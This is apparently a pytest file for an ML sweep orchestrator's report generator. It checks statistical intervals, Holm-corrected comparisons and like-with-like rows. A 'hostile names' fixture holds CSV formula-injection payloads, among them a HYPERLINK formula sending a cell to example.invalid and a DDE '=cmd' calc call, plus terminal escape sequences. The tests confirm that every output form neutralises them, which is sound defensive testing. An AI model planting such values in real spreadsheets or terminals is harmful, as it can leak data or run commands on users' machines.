"""What a difference holds, which rows are like with like, and names that a spreadsheet or a
terminal would run.
"""

from __future__ import annotations

import csv
import io
import shutil
import warnings
from collections.abc import Sequence
from dataclasses import replace
from html import unescape
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from rich.console import Console

from orchestrator.labelling.oracles.simulated import Noisy
from orchestrator.reporting import report, report_files, results
from orchestrator.reporting.csv import csv_by_row, csv_by_seed
from orchestrator.reporting.html import html
from orchestrator.reporting.markdown import markdown
from orchestrator.reporting.words import headline
from orchestrator.sweeps.correctness import CorrectnessError, to_hex
from orchestrator.sweeps.layout import SweepLayout
from tests.helpers.on_disk import disk
from tests.helpers.sweep_folder import (
    FACTS,
    Case,
    fail,
    records_of,
    trial_of,
    write_correct,
    write_records,
    write_sweep,
)

FULL = Case(names=("full labels only",), initial_labels=100, quotas=())
ONE = Case(names=("one stage",), quotas=(265,))
TWO = Case(names=("two stages",))
SEEDS = (0, 1, 2)


def build(layout: SweepLayout) -> dict[str, Any]:
    return report.build(results.load(layout))


def row_of(found: dict[str, Any], case: str) -> dict[str, Any]:
    return next(row for row in found["rows"] if row["case"] == case)


def terminal(found: dict[str, Any], width: int = 160) -> str:
    out = Console(width=width, file=io.StringIO(), record=True)
    out.print(report.render(found))
    return " ".join(out.export_text().split())


def forms(found: dict[str, Any]) -> dict[str, str]:
    """Every form that is read by people, as text of single spaces."""
    texts = {
        "terminal": terminal(found),
        "markdown": markdown(found).replace("\\", ""),
        "html": html(found).replace("&nbsp;", " ").replace("&gt;", ">"),
    }
    return {name: " ".join(text.split()) for name, text in texts.items()}


def with_bits(
    root: Path,
    cases: Sequence[Case],
    seeds: Sequence[int] = SEEDS,
    skills: dict[str, float] | None = None,
    **settings: Any,
) -> SweepLayout:
    """A sweep whose last stages have their files of right guesses; every seed of a row is right on
    nearly the same images.
    """
    layout = write_sweep(root, cases, seeds, **settings)
    for case in cases:
        rate = (skills or {}).get(case.names[0], 0.9)
        draw = np.random.default_rng(sum(map(ord, case.names[0])))
        hard = draw.random(FACTS.test_items)
        for seed in seeds:
            correct = (hard < rate) ^ (draw.random(FACTS.test_items) < 0.01)
            records = records_of(case, seed)
            write_records(
                layout,
                trial_of(case, seed),
                [*records[:-1], records[-1] | write_correct(layout, case, seed, correct)],
            )
    return layout


def test_the_error_of_the_images_is_in_the_interval_of_rows_with_their_files(
    tmp_path: Path,
) -> None:
    layout = with_bits(tmp_path, [FULL, ONE, TWO])
    gap = row_of(build(layout), "two stages")["difference"]["test"]
    assert (gap["n"], gap["sources"]) == (3, "seeds and images")
    for case in (FULL, TWO):
        disk(layout.trial(trial_of(case, 1).id)).test_correct(len(case.quotas)).unlink()
    found = build(layout)
    alone = row_of(found, "two stages")["difference"]["test"]
    assert (alone["mean"], alone["sources"]) == (pytest.approx(gap["mean"]), "seeds")
    # All seeds share the images, and rows that are right on unlike images differ by chance in each
    # of them.
    assert gap["high"] - gap["low"] > 1.5 * (alone["high"] - alone["low"])
    for name, text in forms(found).items():
        assert "° spread over seeds alone" in text, name
    assert all(
        "°" not in text
        for text in forms(build(with_bits(tmp_path / "all", [FULL, ONE, TWO]))).values()
    )


def test_a_row_far_from_the_baseline_is_told_apart_in_every_form(tmp_path: Path) -> None:
    found = build(
        with_bits(
            tmp_path,
            [FULL, ONE, TWO],
            skills={"two stages": 0.99, "one stage": 0.9, "full labels only": 0.7},
        )
    )
    gap = row_of(found, "two stages")["difference"]["test"]
    assert gap["told_apart"] and gap["p"] <= gap["p_holm"] <= 0.05
    for name, text in forms(found).items():
        assert (
            "* significantly different from the baseline, at 5% after Holm's correction"
            in unescape(text)
        ), name
    line = next(
        line
        for line in csv.DictReader(io.StringIO(csv_by_row(found)))
        if line["case"] == "two stages"
    )
    assert (line["difference_test_told_apart"], line["difference_test_top1_last_sources"]) == (
        "true",
        "seeds and images",
    )
    assert float(line["difference_test_p_holm"]) == gap["p_holm"]


def expected(root: Path, seeds: Sequence[int] = SEEDS, *pairs: list[str]) -> dict[str, Any]:
    """A report of a spec with these orderings, of rows with accuracies near 70, 90 and 99 %."""
    skills = {"two stages": 0.99, "one stage": 0.9, "full labels only": 0.7}
    twins = replace(TWO, names=("two stages", "two rounds"))
    return build(with_bits(root, [FULL, ONE, twins], seeds, skills, orderings=list(pairs)))


def test_what_a_spec_expects_shows_or_its_reverse_or_neither(tmp_path: Path) -> None:
    pairs = [["two stages", "one stage"], ["full labels only", "one stage"]]
    found = expected(tmp_path / "clear", SEEDS, *pairs, ["two stages", "two rounds"])
    told = [item["told"] for item in found["orderings"]]
    assert told == ["shows", "the reverse shows", "the same trials"]
    for item, (above, below) in zip(found["orderings"], pairs, strict=False):
        means = [row_of(found, case)["test"]["mean"] for case in (above, below)]
        assert item["difference"] == pytest.approx(means[0] - means[1])
        assert item["low"] < item["difference"] < item["high"]
    for name, text in forms(found).items():
        for said in ("two stages over one stage", "the reverse shows", "the same trials", "Holm"):
            assert said in unescape(text), (name, said)
    # The same rows, and one seed: no difference is ever told apart.
    alone = expected(tmp_path / "alone", (0,), *pairs)
    assert [item["told"] for item in alone["orderings"]] == ["does not show"] * 2


def test_orderings_are_corrected_for_their_number_and_for_nothing_else(tmp_path: Path) -> None:
    pairs = [["two stages", "one stage"], ["two stages", "full labels only"]]
    alone = [
        expected(tmp_path / str(at), SEEDS, pair)["orderings"][0] for at, pair in enumerate(pairs)
    ]
    both = expected(tmp_path / "both", SEEDS, *pairs)["orderings"]
    smaller, larger = sorted((0, 1), key=lambda at: alone[at]["p_holm"])
    assert both[smaller]["p_holm"] == pytest.approx(2 * alone[smaller]["p_holm"])
    assert both[larger]["p_holm"] == pytest.approx(
        max(alone[larger]["p_holm"], both[smaller]["p_holm"])
    )


def test_rows_of_varied_keys_are_compared_where_they_differ_in_the_case_alone(
    tmp_path: Path,
) -> None:
    rows = [
        replace(case, settings={"query.strategy": strategy}, strategy=strategy)
        for case in (ONE, TWO)
        for strategy in ("random", "hard")
    ]
    found = build(write_sweep(tmp_path, rows, orderings=[["two stages", "one stage"]]))
    compared = [
        tuple(found["rows"][item[side]]["settings"] for side in ("above", "below"))
        for item in found["orderings"]
    ]
    assert compared == [({"query.strategy": name},) * 2 for name in ("random", "hard")]


def test_orderings_of_rows_without_a_finished_trial_wait(tmp_path: Path) -> None:
    layout = write_sweep(
        tmp_path, [FULL, ONE], done=False, orderings=[["one stage", "full labels only"]]
    )
    found = build(layout)
    assert [item["told"] for item in found["orderings"]] == ["not finished"]
    assert all("not finished" in text for text in forms(found).values())


def test_one_seed_has_the_interval_of_its_models_and_is_never_told_apart(tmp_path: Path) -> None:
    found = build(
        with_bits(
            tmp_path, [FULL, TWO], seeds=(4,), skills={"two stages": 0.99, "full labels only": 0.2}
        )
    )
    gap = row_of(found, "two stages")["difference"]["test"]
    assert (gap["n"], gap["sources"], gap["p"], gap["told_apart"]) == (1, "images", None, False)
    assert gap["low"] < gap["mean"] < gap["high"]
    for name, text in forms(found).items():
        assert (
            "¹ one seed" in text and "No row is called best: one seed has no error bar" in text
        ), name


def test_a_damaged_file_of_right_guesses_is_named(tmp_path: Path) -> None:
    layout = with_bits(tmp_path, [FULL, TWO])
    path = disk(layout.trial(trial_of(TWO, 1).id)).test_correct(2)
    data = bytearray(path.read_bytes())
    data[-1] ^= 1
    path.write_bytes(data)
    with pytest.raises(CorrectnessError, match=r"0002.npy: is damaged"):
        build(layout)


# --- like with like


LONGER = replace(TWO, names=("twice the epochs",), method={"epochs": 40}, skill=1.2)
HEAVIER = replace(
    TWO, names=("another weight",), method={"consistency_weight": 20.0, "batch_size": 32}
)
NOISY = replace(TWO, names=("noisy answers",), oracle=Noisy(false_yes=0.1, false_no=0.1), skill=1.2)


def test_a_row_with_more_compute_or_information_is_named_and_never_leads(tmp_path: Path) -> None:
    found = build(write_sweep(tmp_path, [FULL, ONE, TWO, LONGER, NOISY, HEAVIER]))
    assert [row["case"] for row in found["rows"] if not row["like_with_like"]] == [
        "twice the epochs",
        "noisy answers",
    ]
    assert [row["case"] for row in found["rows"] if row["is_leader"] or row["tied_with_best"]] == [
        "full labels only",
        "one stage",
        "two stages",
        "another weight",
    ]
    # They stand first in the table, and are compared with the baseline on test.
    assert {found["rows"][index]["case"] for index in found["comparisons"][0]["rows"][:2]} == {
        "twice the epochs",
        "noisy answers",
    }
    assert row_of(found, "twice the epochs")["difference"]["test"]["n"] == 3
    assert row_of(found, "twice the epochs")["also_differs"] == [
        {"key": "method.epochs", "theirs": 20, "ours": 40, "like": False}
    ]
    assert "2 rows are not like with like with the baseline and cannot lead" in headline(found)
    for name, text in forms(found).items():
        assert "method.epochs 20 → 40" in text and "not like with like" in text, name
        assert "oracle.name labels → noisy" in text, name
        assert (
            "method.batch_size 64 → 32, method.consistency_weight 10 → 20: another weight" in text
        ), name
    lines = {line["case"]: line for line in csv.DictReader(io.StringIO(csv_by_row(found)))}
    assert (
        lines["twice the epochs"]["like_with_like"],
        lines["twice the epochs"]["also_differs"],
    ) == ("false", "method.epochs 20 -> 40")
    assert (lines["one stage"]["like_with_like"], lines["one stage"]["also_differs"]) == (
        "true",
        "",
    )


def test_another_network_or_device_on_record_is_named(tmp_path: Path) -> None:
    layout = write_sweep(tmp_path, [FULL, ONE, TWO])
    for seed in SEEDS:
        write_records(
            layout,
            trial_of(ONE, seed),
            [record | {"device": "cuda:0"} for record in records_of(ONE, seed)],
        )
        write_records(
            layout,
            trial_of(TWO, seed),
            [record | {"backbone": "resnet18"} for record in records_of(TWO, seed)],
        )
    found = build(layout)
    assert [(item["key"], item["like"]) for item in row_of(found, "one stage")["also_differs"]] == [
        ("device", True)
    ]
    assert [
        (item["key"], item["like"]) for item in row_of(found, "two stages")["also_differs"]
    ] == [("method.backbone", False)]


def test_when_every_other_row_is_unlike_the_baseline_none_leads(tmp_path: Path) -> None:
    found = build(write_sweep(tmp_path, [FULL, LONGER]))
    assert not any(row["is_leader"] or row["is_best"] for row in found["rows"])
    assert "No row leads: no other row at equal bits is like with like" in headline(found)


def test_a_search_over_epochs_has_a_leading_row_with_a_word_and_no_best(tmp_path: Path) -> None:
    drawn = [
        Case(names=(), method={"epochs": epochs}, settings={"method.epochs": epochs})
        for epochs in (10, 20)
    ]
    layout = write_sweep(
        tmp_path, drawn, search={"algorithm": "random", "num_candidates": 2, "seed": 0}
    )
    for case, accuracy in zip(drawn, (30.0, 90.0), strict=True):
        for seed in SEEDS:
            write_records(
                layout,
                trial_of(case, seed),
                [record | {"val_top1": accuracy + seed} for record in records_of(case, seed)],
            )
    found = build(layout)
    assert [(row["is_leader"], row["is_best"], row["like_with_like"]) for row in found["rows"]] == [
        (False, False, False),
        (True, False, True),
    ]
    assert (
        "No row is called best: the rows are not like with like, they differ in method.epochs"
        in headline(found)
    )


# --- hostile names


HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"open")',
    "-20 labels",
    "+1 round",
    "@home",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "a\r=1",
    "\x1b]0;title\x07\x1b[31mred \x9b31m",
)


@pytest.fixture
def hostile(tmp_path: Path) -> SweepLayout:
    cases = [
        replace(TWO, names=(name,), quotas=(100 + place, 165 - place))
        for place, name in enumerate(HOSTILE)
    ]
    layout = write_sweep(
        tmp_path, [*cases, replace(TWO, names=("-20",), quotas=(50, 215))], name="\x1b[2Jsweep"
    )
    shutil.rmtree(disk(layout.trial(trial_of(cases[0], 1).id)).stages)
    fail(layout, trial_of(cases[0], 1), message="=cmd|' /C calc'!A0 \x1b[31m \x9b1m")
    return layout


def test_no_cell_of_a_csv_file_is_a_formula(hostile: SweepLayout) -> None:
    paths = report_files.write(hostile)
    for path in (paths.csv, paths.csv_rows):
        cells = [
            cell
            for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))
            for cell in line
        ]
        for cell in cells:
            if cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")):
                float(cell)
    named = {
        line["case"]
        for line in csv.DictReader(io.StringIO(paths.csv_rows.read_text(encoding="utf-8")))
    }
    assert {"'-20 labels", "'@home", "-20"} <= named


def test_no_form_holds_an_escape_for_a_terminal(hostile: SweepLayout) -> None:
    with warnings.catch_warnings():
        # A letter that the plots' measuring font lacks is no news: the page has fonts of its own.
        warnings.simplefilter("error")
        paths = report_files.write(hostile)
    found = build(hostile)
    texts = [
        getattr(paths, name).read_text(encoding="utf-8") for name in paths.__dataclass_fields__
    ] + [csv_by_seed(found), csv_by_row(found)]
    out = io.StringIO()
    Console(width=120, file=out, no_color=True).print(report.render(found))
    for text in [*texts, out.getvalue()]:
        assert not [char for char in text if not char.isprintable() and char != "\n"]
        # Markdown has a backslash before each bracket.
        assert "x1b]0;title" in text.replace("\\", "")


def test_a_report_that_was_built_is_written_as_it_is(tmp_path: Path) -> None:
    layout = write_sweep(tmp_path, [FULL, TWO])
    found = build(layout)
    before = report_files.write(layout).json.read_bytes()
    disk(layout).resolved.unlink()
    assert report_files.write(layout, found).json.read_bytes() == before


def test_rows_are_told_apart_by_the_validation_images_that_they_share(tmp_path: Path) -> None:
    """One row gets wrong what the other gets wrong, and eight images more, with every seed: a bound
    for unpaired images does not tell them apart.
    """
    sizes = {"one": 92, "other": 84}
    images = 100
    cases = [
        Case(names=(name,), quotas=(133 + number, 132 - number))
        for number, name in enumerate(sizes)
    ]
    told = []
    for paired in (False, True):
        layout = write_sweep(tmp_path / str(paired), cases, seeds=range(6), baseline="one")
        for case, size in zip(cases, sizes.values(), strict=True):
            for seed in range(6):
                right = np.arange(images) < size - seed % 2
                last = records_of(case, seed)[-1] | {"val_top1": float(right.sum())}
                write_records(
                    layout,
                    trial_of(case, seed),
                    [last | ({"val_correct": to_hex(right)} if paired else {})],
                )
        built = report.build(results.load(layout))
        told.append(built["rows"][1]["tied_with_best"])
    assert told == [True, False]


def test_a_metric_that_is_no_share_has_no_bound_of_shares(tmp_path: Path) -> None:
    """Of mAP nothing is on record by image: two independent binomials would hide any difference."""
    layout = write_sweep(tmp_path, [ONE, TWO], SEEDS)
    for case, value in ((ONE, 60.0), (TWO, 66.0)):
        for seed in SEEDS:
            *before, last = records_of(case, seed)
            said = {"metric": "mAP", "val_top1": value + 0.1 * seed * (1 + value % 7)}
            write_records(layout, trial_of(case, seed), [*before, last | said])
    gap = row_of(build(layout), "one stage")["to_leader"]
    assert gap["sources"] == "seeds"
    assert gap["told_apart"]
    assert "no share of right guesses" in build(layout)["rules"]["interval"]


def test_what_nothing_was_left_to_ask_for_is_said_in_every_form(tmp_path: Path) -> None:
    layout = write_sweep(tmp_path, [ONE, TWO], SEEDS)
    assert not any("no image was left" in text for text in forms(build(layout)).values())
    for seed in SEEDS:
        *before, last = records_of(TWO, seed)
        write_records(layout, trial_of(TWO, seed), [*before, last | {"unspent": 60}])
    for name, text in forms(build(layout)).items():
        assert "no image was left, on average: two stages 60." in text, name
